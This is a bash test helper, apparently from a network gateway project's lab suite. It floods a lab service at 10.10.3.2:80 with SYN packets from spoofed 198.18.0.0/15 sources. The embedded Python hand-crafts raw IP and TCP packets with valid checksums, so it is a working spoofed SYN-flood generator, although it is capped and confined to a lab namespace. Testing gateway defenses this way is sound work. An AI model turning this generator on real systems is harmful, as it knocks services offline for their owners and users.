# spoofed_syn_flood RATE SECS: a bounded SYN flood from atk to the lab's service (10.10.3.2:80),
# sources from 198.18.0.0/15, RATE*SECS packets at most; blocks until it ends. Uses the project's
# synflood when $SYNFLOOD names it (accurate pacing under load), else a small Python generator.
# Needs tests/gateway/lib.sh sourced and the lab up.
spoofed_syn_flood() {
  local rate=$1 secs=$2
  if [[ -n ${SYNFLOOD:-} && -x $SYNFLOOD ]]; then
    in_ns "$NS_ATK" timeout $((secs * 3 + 10)) "$SYNFLOOD" syn --target 10.10.3.2:80 --rate "$rate" \
      --count $((rate * secs)) --duration $((secs * 2))
    return
  fi
  in_ns "$NS_ATK" timeout $((secs * 3 + 10)) /usr/bin/python3 - "$rate" "$secs" <<'PY'
import socket, struct, random, sys, time
rate, secs = int(sys.argv[1]), int(sys.argv[2])
def csum(b):
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b)); s = (s >> 16) + (s & 0xffff); s += s >> 16
    return ~s & 0xffff
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
dst = socket.inet_aton("10.10.3.2"); t0 = time.monotonic()
for i in range(rate * secs):
    src = struct.pack("!I", (198 << 24 | 18 << 16) + random.randrange(1 << 17))
    tcp = struct.pack("!HHIIBBHHH", random.randrange(1024, 65535), 80, random.getrandbits(32), 0, 5 << 4, 0x02, 64240, 0, 0)
    tcp = tcp[:16] + struct.pack("!H", csum(src + dst + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)) + tcp[18:]
    s.sendto(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 64, 6, 0, src, dst) + tcp, ("10.10.3.2", 0))
    if i % 256 == 0:
        ahead = i / rate - (time.monotonic() - t0)
        if ahead > 0: time.sleep(ahead)
print("sent %d in %.1f s" % (rate * secs, time.monotonic() - t0))
PY
}
